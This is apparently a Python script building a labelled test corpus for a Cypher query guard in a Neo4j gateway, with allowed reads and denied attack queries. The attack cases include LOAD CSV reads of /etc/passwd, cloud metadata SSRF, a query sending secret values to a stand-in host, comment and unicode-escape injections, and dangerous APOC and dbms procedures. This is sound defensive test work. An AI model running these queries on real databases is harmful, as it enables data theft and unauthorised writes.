@@ -1,0 +1,361 @@
+import json
+seed = [json.loads(l) for l in open('/work/shared/corpus/guard-seed.jsonl')]
+out = []
+# Reviewed relabels of seed cases: id -> (expect, rule, note)
+relabel = {
+    19: ("deny", "pattern.unbounded", "unbounded * inside shortestPath; default policy requires an upper bound"),
+    22: ("deny", "pattern.unbounded", "bare [*] is unbounded"),
+    58: ("deny", "pattern.unbounded", "-+ quantifier is unbounded"),
+    67: ("deny", "pattern.unbounded", "*0.. has no upper bound"),
+    35: ("deny", "query.prefix", "the sandbox runs EXPLAIN itself; caller prefixes are refused"),
+    36: ("deny", "query.prefix", "PROFILE executes the query and changes the result shape"),
+    37: ("deny", "query.option", "Neo4j 5.26 speaks Cypher 5; CYPHER 25 is refused"),
+    84: ("deny", "parse.failed", "Cypher 25 only (FILTER, LET): the parser does not read Cypher 25 clauses"),
+    38: ("deny", "procedure.not_allowed", "vector index procedures ignore label filters (scope leak family 11); not on the default allow-list"),
+    41: ("deny", "procedure.not_allowed", "dbms.* is never on the default allow-list"),
+    82: ("deny", "procedure.not_allowed", "fulltext index procedures ignore label filters; not on the default allow-list"),
+    72: ("deny", "statement.multiple", "the issue requires multiple statements to be rejected, even reads"),
+    85: ("deny", "input.too_large", "200 KB is over max_query_chars (10,000)"),
+    86: ("deny", "input.too_deep", "1,000 nested parentheses is over max_nesting_depth (32)"),
+    87: ("deny", "input.too_deep", "1,000 nested brackets is over max_nesting_depth (32)"),
+}
+from gateway.guard import check
+from gateway.policy import load_policy
+POL = {"default": load_policy(), "permissive": load_policy('/work/main/tests/corpus/policies/permissive.yaml')}
+
+def add(query, expect, rule=None, *, label, tags=(), note="", tool="analyze", params=None, policy="default", origin="project"):
+    out.append(dict(id=len(out) + 1, label=label, expect=expect, rule=rule, tool=tool, params=params or {},
+                    policy=policy, tags=list(tags), note=note, origin=origin, query=query))
+
+for d in seed:
+    expect, rule, note = d["expect"], None, d.get("note", "")
+    if d["id"] in relabel:
+        expect, rule, note = relabel[d["id"]]
+        note = f"relabelled from allow: {note}"
+    if expect == "deny" and rule is None:
+        dec = check(d["query"], {}, "analyze", POL["default"])
+        rule = dec.rule  # reviewed by hand: see docs/security/guard.md
+    label = d["label"] if expect == "deny" or d["label"] != "READ" else "READ"
+    if d["label"] == "READ" and expect == "deny":
+        label = "READ-REFUSED-BY-POLICY" if rule not in ("parse.failed",) else "READ-UNSUPPORTED"
+    tags = list(d["tags"])
+    if expect == "allow" and "apoc." in d["query"]:
+        tags.append("requires-apoc")
+    add(d["query"], expect, rule, label=label, tags=tags, note=note, origin=f"seed:{d['id']}")
+
+# The same reads under the permissive test policy: refused by policy above, understood by the parser.
+for sid in (19, 22, 58, 67, 38, 82):
+    q = next(d for d in seed if d["id"] == sid)["query"]
+    add(q, "allow", label="READ", tags=["policy-variant"], policy="permissive",
+        note=f"seed {sid} under a policy that allows it: the parser reads it", origin=f"seed:{sid}",
+        params={"embedding": [0.1, 0.2]} if sid == 38 else None)
+add("RETURN " + "(" * 1000 + "1" + ")" * 1000, "deny", "input.too_deep", label="NESTING", tags=["deep-parens", "recursion"],
+    policy="permissive", note="within the policy's bracket limit but deeper than the Python stack: a clean rejection, no RecursionError")
+
+R = "READ"
+# ---------------------------------------------------------------- legitimate reads
+reads = [
+    ("CYPHER 5 MATCH (n:Person) RETURN n.name", ["cypher-version"]),
+    ("cypher 5 match (n) return count(*) as c", ["cypher-version", "lowercase"]),
+    ("MATCH (a:Station)((x)-[:LINK]->(y)){1,3}(b:Station) RETURN a, b", ["qpp"]),
+    ("MATCH (a)-[:LINK]->{1,3}(b) RETURN b", ["quantified-relationship"]),
+    ("MATCH ((a)-[:R]->(b) WHERE a.x > 1){2}(c) RETURN c", ["qpp", "qpp-where"]),
+    ("MATCH (a)((x)-[:R]->(y)){0,4}(b) RETURN count(*)", ["qpp"]),
+    ("MATCH ANY SHORTEST (a:Station {name: 'A'})-[:LINK]-{1,5}(b:Station {name: 'B'}) RETURN b", ["gql-shortest"]),
+    ("MATCH p = SHORTEST 2 (a)-[:R]->{1,4}(b) RETURN p", ["gql-shortest"]),
+    ("MATCH (n) WHERE n.createdAt > $since AND n.settings IS NOT NULL AND n.deleted = false RETURN n.createdAt, n.settings, n.deleted", ["keyword-like-props", "params"]),
+    ("MATCH (n:Match {return: 1}) RETURN n.with AS with, n.union AS union", ["keyword-props", "keyword-labels"]),
+    ("MATCH (n) RETURN n.count AS count, n.call AS call, n.load AS load", ["keyword-props"]),
+    ("MATCH (n:`Label with space`) RETURN n.`prop with space` AS `a b`", ["backticks"]),
+    ("MATCH (`weird var`) RETURN `weird var`", ["backtick-variable"]),
+    ("RETURN count { MATCH (n) RETURN n } AS c", ["count-subquery", "full-body"]),
+    ("MATCH (n:Person) RETURN n.name, COUNT { (n)-[:KNOWS]->() WHERE n.age > 1 } AS c", ["count-subquery", "where"]),
+    ("MATCH (n) WHERE EXISTS { MATCH (n)-->(m) WHERE m.x = 1 } AND NOT EXISTS { (n)-[:BLOCKED]->() } RETURN n", ["exists-subquery"]),
+    ("MATCH (n) WHERE EXISTS { MATCH (n)-->(m) RETURN m UNION MATCH (n)<--(m) RETURN m } RETURN n", ["exists-subquery", "union"]),
+    ("MATCH (n) RETURN n { .name, friends: COLLECT { MATCH (n)-->(f) RETURN f.name } } AS card", ["map-projection", "collect-subquery"]),
+    ("MATCH (n) WITH n { .*, extra: 1 } AS m RETURN m", ["map-projection"]),
+    ("MATCH (n) WITH n, 1 AS x RETURN n { .name, x } AS m", ["map-projection", "variable-item"]),
+    ("MATCH (n) WHERE (n)-[:KNOWS]->(:Person) RETURN n", ["pattern-predicate"]),
+    ("MATCH (n) WHERE NOT (n)<-[:BLOCKED]-() RETURN n", ["pattern-predicate"]),
+    ("MATCH (n) RETURN size([(n)-->(m) | m]) AS degree", ["pattern-comprehension"]),
+    ("MATCH (n) RETURN [p = (n)-[:R]->() | length(p)] AS lens", ["pattern-comprehension", "path-variable"]),
+    ("MATCH (n) RETURN n.x IS :: STRING NOT NULL AS s, n.y IS NOT :: LIST<INTEGER> AS l, n.z IS TYPED INTEGER | FLOAT AS num", ["type-predicate"]),
+    ("MATCH (n) RETURN CASE n.x WHEN 1 THEN 'a' END AS c", ["case-simple"]),
+    ("MATCH (n) WHERE n.name STARTS WITH $p OR n.name ENDS WITH $s OR n.name CONTAINS 'z' RETURN n", ["string-ops", "params"]),
+    ("MATCH (a)-[r]->(b) WHERE type(r) IN ['KNOWS'] RETURN a, b LIMIT 5", ["in-list"]),
+    ("WITH [1, 2, 3] AS l RETURN l[-1] AS last, l[1..] AS tail, l[..2] AS head, l[0..2] AS mid", ["slices"]),
+    ("RETURN 0o17 AS o, 1_000_000 AS m, .5 AS h, 1e-3 AS e, -1 AS neg, +2 AS pos, 2 ^ 3 AS p, 7 % 2 AS r", ["literals"]),
+    ("MATCH (n) RETURN n // comment with MATCH (m) DETACH DELETE m", ["comment-with-write"]),
+    ("MATCH (n)\n\tWHERE n.x = 1\n\tRETURN n\n", ["newlines", "tabs"]),
+    ("match (n) where exists { match (n)-->() } return count(*)", ["lowercase", "exists-subquery"]),
+    ("MATCH (n) RETURN n[$key] AS dynamic", ["dynamic-property", "params"]),
+    ("RETURN 'a' || 'b' AS s", ["string-concat"]),
+    ("RETURN {a: 1, b: [1, 2]}.a AS a", ["map-literal", "property"]),
+    ("RETURN date('2024-01-01') + duration({days: 1}) AS d", ["temporal"]),
+    ("MATCH (n) RETURN n ORDER BY n.x DESC, n.y ASC SKIP 0 LIMIT 5", ["orderby"]),
+    ("MATCH (n) RETURN n.name AS x LIMIT 10 UNION ALL MATCH (m) RETURN m.title AS x LIMIT 5", ["union-all"]),
+    ("MATCH (n) WITH n, n.x AS x WHERE x IS NOT NULL RETURN DISTINCT x", ["with-where"]),
+    ("MATCH p = (a)-[*1..4]->(b) RETURN nodes(p) AS ns, relationships(p) AS rs", ["varlength", "path"]),
+    ("MATCH (a)-[r:KNOWS*1..3]-(b) RETURN [rel IN r | type(rel)] AS types", ["varlength", "list-comprehension"]),
+    ("MATCH (a)-[*2]->(b) RETURN b", ["varlength-exact"]),
+    ("MATCH (a)-[:A|B|C]->(b) RETURN b", ["rel-type-alternation"]),
+    ("MATCH (a)-[:A|:B]->(b) RETURN b", ["rel-type-alternation", "old-syntax"]),
+    ("MATCH (n:Person:Employee) RETURN n", ["label-conjunction"]),
+    ("MATCH (n) WHERE n:Person&Employee OR n:%  RETURN n", ["label-expression", "wildcard"]),
+    ("MATCH (n IS Person) RETURN n", ["label-is"]),
+    ("MATCH (n:(Person|Company)&!Deleted) RETURN n", ["label-expression"]),
+    ("MATCH (n) WHERE n.age IN [1, 2] XOR n.x RETURN n", ["xor"]),
+    ("UNWIND range(1, 3) AS i WITH i WHERE i > 1 RETURN collect(DISTINCT i) AS l", ["unwind", "distinct-aggregate"]),
+    ("MATCH (n) RETURN count(DISTINCT n.x) AS c, avg(n.y) AS a, percentileCont(n.z, 0.5) AS p", ["aggregation"]),
+    ("MATCH (n) CALL (*) { RETURN 1 AS one } RETURN n, one", ["call-subquery", "scope-star"]),
+    ("MATCH (n) OPTIONAL CALL (n) { MATCH (n)-->(m) RETURN m } RETURN n, m", ["optional-call-subquery"]),
+    ("MATCH (n) CALL { WITH n RETURN n.x AS x UNION WITH n RETURN n.y AS x } RETURN x", ["call-subquery", "union"]),
+    ("CALL db.labels() YIELD label WHERE label STARTS WITH 'A' RETURN label", ["procedure-allowlisted", "yield-where"]),
+    ("CALL db.relationshipTypes", ["procedure-allowlisted", "no-parens"]),
+    ("CALL db.propertyKeys() YIELD propertyKey AS key RETURN key ORDER BY key", ["procedure-allowlisted"]),
+    ("MATCH (n:Person) USING INDEX n:Person(name) WHERE n.name = 'x' RETURN n", ["hint"]),
+    ("MATCH (n:Person) USING SCAN n:Person RETURN n", ["hint"]),
+    ("MATCH (a)-->(b) USING JOIN ON b RETURN a, b", ["hint"]),
+    ("MATCH (n) RETURN n.name =~ '(?i)al.*' AS m", ["regex"]),
+    ("RETURN \"it's \\\"quoted\\\" MATCH\" AS s", ["string-escapes"]),
+    ("RETURN 'a /* not a comment */ b' AS s, \"// not a comment\" AS t", ["comment-chars-in-string"]),
+    ("MATCH (n) /* a block\ncomment over lines */ RETURN n", ["comment", "multiline"]),
+    ("MATCH (n) WHERE all(x IN n.tags WHERE x STARTS WITH 'a') AND single(y IN n.tags WHERE y = 'b') RETURN n", ["list-predicates"]),
+    ("MATCH (n) RETURN reduce(acc = '', s IN n.parts | acc + s) AS joined", ["reduce"]),
+    ("MATCH (n) RETURN CASE WHEN n.a THEN CASE WHEN n.b THEN 1 ELSE 2 END ELSE 3 END AS nested", ["case", "nested"]),
+    ("MATCH (set:Person), (create:Company) RETURN set.name, create.name", ["keyword-variables"]),
+    ("MATCH (n) WHERE n.id = $id RETURN n", ["params"]),
+    ("MATCH (n) WHERE n.x <> 1 RETURN n", ["inequality"]),
+    ("MATCH (n) RETURN n.a < n.b <= n.c AS chained", ["chained-comparison"]),
+    ("MATCH (n) RETURN n.x IS NULL AS a, NOT n.y IS NOT NULL AS b", ["null-predicates"]),
+    ("MATCH (n) RETURN apoc.text.join(['a'], ',') AS j, apoc.coll.sum([1, 2]) AS s, apoc.map.merge({}, {}) AS m", ["apoc-pure-functions"]),
+    ("MATCH (n) RETURN elementId(n) AS id, labels(n) AS ls, keys(n) AS ks, properties(n) AS ps", ["functions"]),
+    ("RETURN vector.similarity.euclidean([1.0, 2.0], [2.0, 1.0]) AS d", ["namespaced-function"]),
+    ("MATCH (n) RETURN n ORDER BY n.x DESCENDING, n.y ASCENDING", ["orderby"]),
+    ("MATCH (n) RETURN n SKIP 1 LIMIT 1", ["skip-limit"]),
+    ("MATCH (n) RETURN n OFFSET 1 LIMIT 1", ["offset"]),
+    ("RETURN 1 AS x;", ["trailing-semicolon"]),
+]
+for q, tags in reads:
+    if "apoc." in q:
+        tags = [*tags, "requires-apoc"]
+    add(q, "allow", label=R, tags=tags, params={k: "name" for k in ("since", "p", "s", "key", "id") if f"${k}" in q})
+
+# recall needs $repository and $taskId
+rp = {"repository": "acme/api", "taskId": "T-1"}
+add("MATCH (t:Task {repository: $repository, id: $taskId})-[:HAS_STEP]->(s) RETURN s ORDER BY s.at", "allow", label=R,
+    tool="recall", params=rp, tags=["recall", "required-params"])
+add("MATCH (t:Task) WHERE t.repository = $repository AND t.id = $taskId RETURN t UNION MATCH (t:Task {repository: $repository, id: $taskId})<-[:ABOUT]-(n) RETURN n AS t",
+    "allow", label=R, tool="recall", params=rp, tags=["recall", "union"])
+add("MATCH (t:Task {repository: $repository}) RETURN t", "deny", "param.required", label="REQUIRED-PARAM", tool="recall",
+    params={"repository": "x"}, tags=["recall", "missing-reference"], note="recall must reference $taskId")
+add("MATCH (t:Task {repository: $repository, id: $taskId}) RETURN t", "deny", "param.required", label="REQUIRED-PARAM",
+    tool="recall", params={"repository": "x"}, tags=["recall", "missing-value"], note="referenced but not supplied")
+add("MATCH (t:Task {repository: $repository, id: $taskId}) CALL db.labels() YIELD label RETURN label", "deny",
+    "clause.not_allowed", label="PROCEDURE", tool="recall", params=rp, tags=["recall", "procedure"],
+    note="recall allows no procedure calls at all")
+add("MATCH (t:Task {repository: $repository, id: $taskId})-[:SUPERSEDES]->(old) RETURN old", "deny",
+    "relationship.denied", label="SCOPE", tool="recall", params=rp, tags=["recall", "bookkeeping"])
+
+# ---------------------------------------------------------------- attacks
+W = "WRITE"
+writes = [
+    ("MATCH (n) WITH n CALL { WITH n MERGE (m:X) RETURN m } RETURN n", ["call-subquery", "merge"]),
+    ("MATCH (n) RETURN n.x AS x UNION ALL MATCH (m) SET m.y = 1 RETURN m.y AS x", ["union-all", "set"]),
+    ("MATCH (n) CALL { WITH n FOREACH (x IN [1] | CREATE (:X)) } RETURN n", ["foreach", "call-subquery"]),
+    ("RETURN COLLECT { CREATE (n:X) RETURN n } AS l", ["collect-subquery", "create"]),
+    ("MATCH (n) WHERE COUNT { MATCH (n) DETACH DELETE n RETURN 1 } > 0 RETURN n", ["count-subquery", "delete"]),
+    ("MATCH (n) NODETACH DELETE n", ["nodetach-delete"]),
+    ("MATCH (n)/**/SET/**/n.x=1", ["comment-separator", "set"]),
+    ("MATCH (n)SET n.x=1", ["no-space", "set"]),
+    ("insert (n:X)", ["gql-insert", "lowercase"]),
+    ("MATCH (n) WITH n CALL { WITH n CALL { WITH n CALL { WITH n REMOVE n.x } } } RETURN n", ["nested-subquery", "remove"]),
+    ("MATCH (a), (b) MERGE (a)-[:R]->(b)", ["merge-rel"]),
+    ("OPTIONAL MATCH (n) WITH n WHERE n IS NULL CREATE (:Fallback)", ["optional-match", "create"]),
+    ("UNWIND [1, 2] AS x CREATE (:N {x: x})", ["unwind", "create"]),
+    ("MATCH (n) RETURN [(n)-->(m) | m] AS ms UNION MATCH (n) DELETE n RETURN [] AS ms", ["union", "delete"]),
+    ("CALL { MATCH (n) RETURN n } IN TRANSACTIONS RETURN n", ["in-transactions", "read-body"]),
+    ("MATCH (n) CALL (n) { RETURN n.x AS x } IN 2 CONCURRENT TRANSACTIONS OF 10 ROWS RETURN x", ["in-transactions", "concurrent"]),
+    ("MATCH (n) WHERE n.x = 'a\\\\' SET n.y = 1 //'", ["escape-trap", "set"]),
+    ("MATCH (n) RETURN \"\\\\\" AS s CREATE (x:Evil) //\"", ["escape-trap", "double-quote"]),
+    ("MATCH (n) /* /* */ CREATE (x) */", ["nested-comment-trap"]),
+    ("MATCH (n) WHERE n.a = 1 MERGE (m {id: n.id}) ON MATCH SET m.seen = true RETURN m", ["merge", "on-match"]),
+    ("MATCH (n:Person) SET n:`Admin`", ["set-label", "backticks"]),
+    ("MATCH (n) CALL (n) { DETACH DELETE n }", ["scope-clause", "detach-delete"]),
+    ("FOREACH (x IN [1] | MERGE (:A))", ["foreach"]),
+]
+for q, tags in writes:
+    rule = "write.clause"
+    add(q, "deny", rule, label=W, tags=tags)
+
+admin = [
+    "CREATE OR REPLACE DATABASE evil", "CREATE RANGE INDEX r FOR (n:P) ON (n.x)", "CREATE FULLTEXT INDEX f FOR (n:P) ON EACH [n.x]",
+    "CREATE VECTOR INDEX v FOR (n:P) ON n.e", "CREATE TEXT INDEX t FOR (n:P) ON (n.x)", "DROP DATABASE neo4j",
+    "SHOW TRANSACTIONS", "SHOW CURRENT USER", "SHOW SETTINGS YIELD name, value", "SHOW FUNCTIONS", "REVOKE ROLE admin FROM bob",
+    "DENY READ {*} ON GRAPH * TO reader", "CREATE ROLE hacker", "START DATABASE neo4j", "ALTER DATABASE neo4j SET ACCESS READ WRITE",
+    "CREATE ALIAS a FOR DATABASE neo4j", "RENAME USER bob TO mallory", "ENABLE SERVER 'x'", "DEALLOCATE DATABASES FROM SERVER 'x'",
+    "show users", "CREATE CONSTRAINT c IF NOT EXISTS FOR ()-[r:R]-() REQUIRE r.x IS NOT NULL", "CREATE LOOKUP INDEX l FOR (n) ON EACH labels(n)",
+    "TERMINATE TRANSACTION 'neo4j-transaction-7'",
+]
+for q in admin:
+    add(q, "deny", "admin.command", label="ADMIN", tags=["admin"])
+add("USE neo4j MATCH (n) RETURN n", "deny", "database.use", label="ADMIN", tags=["use"], note="even the configured database: the gateway pins it, not the caller")
+add("USE graph.byName('system') MATCH (n) RETURN n", "deny", "database.use", label="ADMIN", tags=["use", "dynamic"])
+add("MATCH (n) CALL { USE system MATCH (m) RETURN m } RETURN n, m", "deny", "database.use", label="ADMIN", tags=["use", "subquery"])
+add("CALL { LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l } RETURN l", "deny", "load_csv", label="FILE-ACCESS", tags=["load-csv", "subquery"])
+add("LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS l FIELDTERMINATOR ';' RETURN l", "deny", "load_csv", label="FILE-ACCESS", tags=["load-csv", "ssrf"])
+add("MATCH (s:Secret) LOAD CSV FROM 'https://x.example/?d=' + s.value AS l RETURN 1", "deny", "load_csv", label="FILE-ACCESS", tags=["load-csv", "exfiltration"])
+add("MATCH (n) WHERE EXISTS { LOAD CSV FROM 'file:///x' AS l RETURN l } RETURN n", "deny", "load_csv", label="FILE-ACCESS", tags=["load-csv", "exists"])
+
+P = "PROCEDURE"
+procs = [
+    ("CALL /*x*/ apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})", ["comment-in-name"]),
+    ("CALL apoc./*x*/periodic . iterate('MATCH (n) RETURN n', 'SET n.x = 1', {})", ["comment-in-name", "whitespace-in-name"]),
+    ("CALL `apoc`.`load`.json('http://169.254.169.254/latest/meta-data/') YIELD value RETURN value", ["backtick-namespace", "ssrf"]),
+    ("CALL `apoc.load.json`('file:///etc/passwd') YIELD value RETURN value", ["single-backticked-name"]),
+    ("CALL APOC.LOAD.JSON('file:///etc/passwd') YIELD value RETURN value", ["uppercase"]),
+    ("CALL apoc.load.jsonParams('http://x', {}, null) YIELD value RETURN value", ["apoc-load"]),
+    ("CALL apoc.cypher.runTimeboxed('MATCH (n) DETACH DELETE n', {}, 1000)", ["apoc-cypher", "own-transaction"]),
+    ("CALL apoc.cypher.runMany('CREATE (n); CREATE (m);', {})", ["apoc-cypher"]),
+    ("CALL dbms.listConfig() YIELD name, value RETURN name, value", ["dbms"]),
+    ("CALL dbms.listConnections()", ["dbms"]),
+    ("CALL dbms.killConnections(['bolt-1'])", ["dbms"]),
+    ("CALL dbms.queryJmx('*:*')", ["dbms"]),
+    ("CALL db.clearQueryCaches()", ["db-admin"]),
+    ("CALL tx.setMetaData({agent: 'innocent'})", ["tx-metadata", "audit-poisoning"]),
+    ("CALL db.schema.visualization()", ["scope-leak"]),
+    ("CALL dbms.listConfig", ["dbms", "no-parens"]),
+    ("CALL db.labels() YIELD label CALL apoc.load.json(label) YIELD value RETURN value", ["second-call"]),
+    ("MATCH (n) WHERE EXISTS { CALL apoc.load.json('file:///x') YIELD value RETURN value } RETURN n", ["exists", "apoc-load"]),
+    ("RETURN COLLECT { CALL apoc.util.sleep(100000) RETURN 1 } AS l", ["collect", "sleep"]),
+    ("CALL apoc.util.sleep(60000)", ["resource"]),
+    ("CALL db.index.fulltext.queryNodes('idx', 'secret') YIELD node RETURN node", ["scope-leak", "fulltext"]),
+    ("CALL apoc.export.json.all(null, {stream: true})", ["apoc-export"]),
+    ("CALL apoc.import.csv([{fileName: 'file:///x', labels: ['X']}], [], {})", ["apoc-import"]),
+    ("CALL apoc.do.when(true, 'CREATE (n)', '', {})", ["apoc-do", "dynamic-cypher"]),
+    ("CALL apoc.systemdb.execute('SHOW USERS')", ["apoc-systemdb"]),
+    ("CALL apoc.custom.declareProcedure('x() :: (n::INT)', 'CREATE (n)')", ["apoc-custom"]),
+    ("CALL gds.graph.drop('g')", ["gds"]),
+    ("CALL db.createRelationshipType('X')", ["db-write"]),
+]
+for q, tags in procs:
+    add(q, "deny", "procedure.not_allowed", label=P, tags=tags)
+funcs = [
+    ("RETURN apoc.cypher.runFirstColumnMany('MATCH (n) RETURN n', {}) AS l", ["dynamic-cypher-function"]),
+    ("RETURN `apoc`.`cypher`.runFirstColumn('MATCH (n) RETURN n', {}) AS l", ["backtick-namespace"]),
+    ("RETURN APOC.CYPHER.RUNFIRSTCOLUMNSINGLE('RETURN 1', {}) AS l", ["uppercase"]),
+    ("RETURN apoc . cypher . runFirstColumnSingle ('RETURN 1', {}) AS l", ["whitespace-in-name"]),
+    ("MATCH (n) WHERE apoc.cypher.runFirstColumnSingle('RETURN true', {}) RETURN n", ["in-where"]),
+    ("RETURN [x IN [1] | apoc.cypher.runFirstColumnSingle('RETURN 1', {})] AS l", ["in-list-comprehension"]),
+    ("MATCH (n) RETURN n { .name, x: apoc.cypher.runFirstColumnSingle('RETURN 1', {}) } AS m", ["in-map-projection"]),
+    ("RETURN CASE WHEN true THEN apoc.static.get('k') END AS s", ["in-case", "apoc-static"]),
+    ("RETURN apoc.util.validatePredicate(true, 'x', []) AS v", ["apoc-util"]),
+    ("RETURN apoc.text.urlencode('secret') AS u", ["exfiltration-helper"]),
+    ("RETURN apoc.case([true, 'CREATE (n)'], '', {}) AS c", ["dynamic-cypher"]),
+    ("RETURN db.nameFromElementId('4:x:1') AS n", ["db-function"]),
+    ("RETURN apoc.load.json('http://x') AS v", ["apoc-load-function"]),
+]
+for q, tags in funcs:
+    add(q, "deny", "function.denied", label=P, tags=tags)
+
+# reserved parameters
+add("MATCH (n) WHERE n.x IN $__gw_scope RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["reference"],
+    note="the query may not read the gateway's own scope parameter")
+add("MATCH (n) WHERE n.x IN $`__gw_scope` RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["reference", "backtick-param"])
+add("MATCH (n) RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["supplied"], params={"__gw_scope": ["all"]})
+add("MATCH (n) RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["supplied", "case"], params={"__GW_SCOPE": ["all"]})
+add("MATCH (n) RETURN n", "deny", "param.reserved", label="RESERVED-PARAM", tags=["supplied", "mentis-prefix"], params={"__mentis_layers": ["x"]})
+add("MATCH (t:Task {repository: $repository, id: $taskId}) RETURN t", "deny", "param.reserved", label="RESERVED-PARAM",
+    tool="recall", params={**rp, "__gw_scope": ["all"]}, tags=["supplied", "recall"])
+
+# bookkeeping edges and traversal bounds
+S = "SCOPE"
+for q, tags in [
+    ("MATCH (a)-[:SUPERSEDES]->(b) RETURN a, b", ["bookkeeping"]),
+    ("MATCH (a)-[:KNOWS|SUPERSEDES]->(b) RETURN b", ["bookkeeping", "alternation"]),
+    ("MATCH (a)-[:`CONTRADICTS`]->(b) RETURN b", ["bookkeeping", "backticks"]),
+    ("MATCH (a) WHERE EXISTS { (a)-[:CONTRADICTS]->() } RETURN a", ["bookkeeping", "exists"]),
+    ("MATCH (a) RETURN [(a)-[:SUPERSEDES]->(b) | b] AS olds", ["bookkeeping", "pattern-comprehension"]),
+    ("MATCH (a) WHERE (a)-[:SUPERSEDES]->() RETURN a", ["bookkeeping", "pattern-predicate"]),
+    ("MATCH (a)((x)-[:SUPERSEDES]->(y)){1,2}(b) RETURN b", ["bookkeeping", "qpp"]),
+]:
+    add(q, "deny", "relationship.denied", label=S, tags=tags)
+for q, rule, tags in [
+    ("MATCH (a)-[*1..20]->(b) RETURN b", "pattern.too_many_hops", ["varlength"]),
+    ("MATCH (a)-[:R*9]->(b) RETURN b", "pattern.too_many_hops", ["varlength-exact"]),
+    ("MATCH (a)((x)-[:R]->(y)-[:S]->(z)){1,5}(b) RETURN b", "pattern.too_many_hops", ["qpp", "hops-multiply"]),
+    ("MATCH (a)-[:R]->{1,9}(b) RETURN b", "pattern.too_many_hops", ["quantified-relationship"]),
+    ("MATCH (a)((x)-->(y)){3,}(b) RETURN b", "pattern.unbounded", ["qpp"]),
+    ("MATCH (a)((x)-->(y))+(b) RETURN b", "pattern.unbounded", ["qpp", "plus"]),
+    ("MATCH (a)-[:R]->*(b) RETURN b", "pattern.unbounded", ["quantified-relationship", "star"]),
+    ("MATCH (a)-[*2..]->(b) RETURN b", "pattern.unbounded", ["varlength"]),
+    ("MATCH (n) RETURN [(n)-[*]->(m) | m] AS all", "pattern.unbounded", ["pattern-comprehension"]),
+    ("MATCH (n) WHERE EXISTS { (n)-[*]->(:Secret) } RETURN n", "pattern.unbounded", ["exists"]),
+]:
+    add(q, "deny", rule, label="RESOURCE", tags=tags)
+
+# size, nesting, recursion
+add("RETURN " + "(" * 33 + "1" + ")" * 33, "deny", "input.too_deep", label="NESTING", tags=["deep-parens"], note="one over the limit")
+add("RETURN " + "(" * 32 + "1" + ")" * 32, "allow", None, label=R, tags=["deep-parens"], note="exactly at the limit")
+add("RETURN " + "NOT " * 500 + "true", "deny", "input.too_deep", label="NESTING", tags=["bracket-free-nesting"])
+add("RETURN " + "- " * 1000 + "1", "deny", "input.too_deep", label="NESTING", tags=["bracket-free-nesting"])
+add("RETURN " + "CASE WHEN true THEN " * 60 + "1" + " END" * 60, "deny", "input.too_deep", label="NESTING", tags=["case-nesting"])
+add("MATCH (n) WHERE " + " AND ".join(f"n.p{i} = {i}" for i in range(1200)) + " RETURN n", "deny", "input.too_large",
+    label="SIZE", tags=["size"], note="just over 10,000 characters")
+add("MATCH (n) RETURN " + ", ".join(f"n.p{i} AS c{i}" for i in range(600)), "allow", None, label=R, tags=["size"], note="about 9 KB, flat: allowed")
+add("MATCH (n) " + "CALL { " * 40 + "RETURN 1 AS x" + " }" * 40 + " RETURN x", "deny", "input.too_deep", label="NESTING", tags=["subquery-nesting"])
+
+# multiple statements, wrapper escapes, malformed
+add("RETURN 1; RETURN 2", "deny", "statement.multiple", label="MULTI", tags=["multi-statement"])
+add("MATCH (n) RETURN n } UNION ALL CALL { MATCH (m) DETACH DELETE m RETURN m", "deny", "parse.failed", label=W,
+    tags=["wrapper-escape"], note="family 8: closes a CALL { … } LIMIT wrapper early; unbalanced on its own")
+add("RETURN 1 AS x } CALL { CREATE (p:Pwned) RETURN p", "deny", "parse.failed", label=W, tags=["wrapper-escape"])
+add("RETURN 1 AS x }", "deny", "parse.failed", label="MALFORMED", tags=["wrapper-escape"])
+add("MATCH (n) RETURN n LIMIT", "deny", "parse.failed", label="MALFORMED", tags=["syntax-error"])
+add("{}", "deny", "parse.failed", label="MALFORMED", tags=["syntax-error"])
+add("MATCH (n) RETURN n 🙂", "deny", "parse.failed", label="MALFORMED", tags=["unknown-char"])
+add("MATCH (n) RETURN n // x\u2028 SET n.x = 1", "deny", "parse.failed", label=W, tags=["line-separator-comment"],
+    note="if Neo4j ended // comments at U+2028 the SET would be live; refused either way")
+add("MATCH (n) RETURN 'unterminated \\'", "deny", "parse.failed", label="MALFORMED", tags=["unterminated-string", "escape"])
+add("MATCH (n:`unterminated) RETURN n", "deny", "parse.failed", label="MALFORMED", tags=["unterminated-backtick"])
+add("USING PERIODIC COMMIT LOAD CSV FROM 'file:///x' AS l CREATE (:X)", "deny", "parse.failed", label=W, tags=["neo4j-4-syntax"])
+add("MATCH (n) FINISH", "deny", "clause.not_allowed", label="READ-REFUSED-BY-POLICY", tags=["finish"], note="FINISH is not in the default allowed clauses")
+add("MATCH (n) FINISH", "allow", None, label=R, tags=["finish", "policy-variant"], policy="permissive")
+add("CYPHER runtime=slotted MATCH (n) RETURN n", "deny", "query.option", label="OPTION", tags=["planner-option"])
+add("EXPLAIN CYPHER 5 MATCH (n) RETURN n", "deny", "query.prefix", label="OPTION", tags=["explain"])
+
+# Found by running the corpus through Neo4j 5.26's EXPLAIN: Neo4j decodes \uXXXX before lexing.
+U = "UNICODE-ESCAPE"
+add("RETURN '\\u0027 CREATE (x) //' AS s", "deny", "parse.failed", label=U, tags=["unicode-escape", "string"],
+    note="Neo4j reads '' then a live CREATE; the guard once allowed this (EXPLAIN: 'RETURN can only be used at the end')")
+add("MATCH (n) WHERE n.x = '\\u0027 SET n.pwned = true //' RETURN n", "deny", "parse.failed", label=U, tags=["unicode-escape", "string", "write"])
+add("MATCH (n) // \\u000a SET n.x = 1 RETURN n", "deny", "parse.failed", label=U, tags=["unicode-escape", "line-comment"],
+    note="\\u000a ends the // comment in Neo4j")
+add("MATCH (n) /* \\u002a/ SET n.x = 1 /* */ RETURN n", "deny", "parse.failed", label=U, tags=["unicode-escape", "block-comment"])
+add("MATCH (n:`a\\u0060) SET n.x = 1 //`) RETURN n", "deny", "parse.failed", label=U, tags=["unicode-escape", "backtick"])
+add("RETURN '\\\\u0027' AS s", "deny", "parse.failed", label=U, tags=["unicode-escape", "conservative"],
+    note="Neo4j does not decode an escaped backslash's u0027; refused anyway (conservative, documented)")
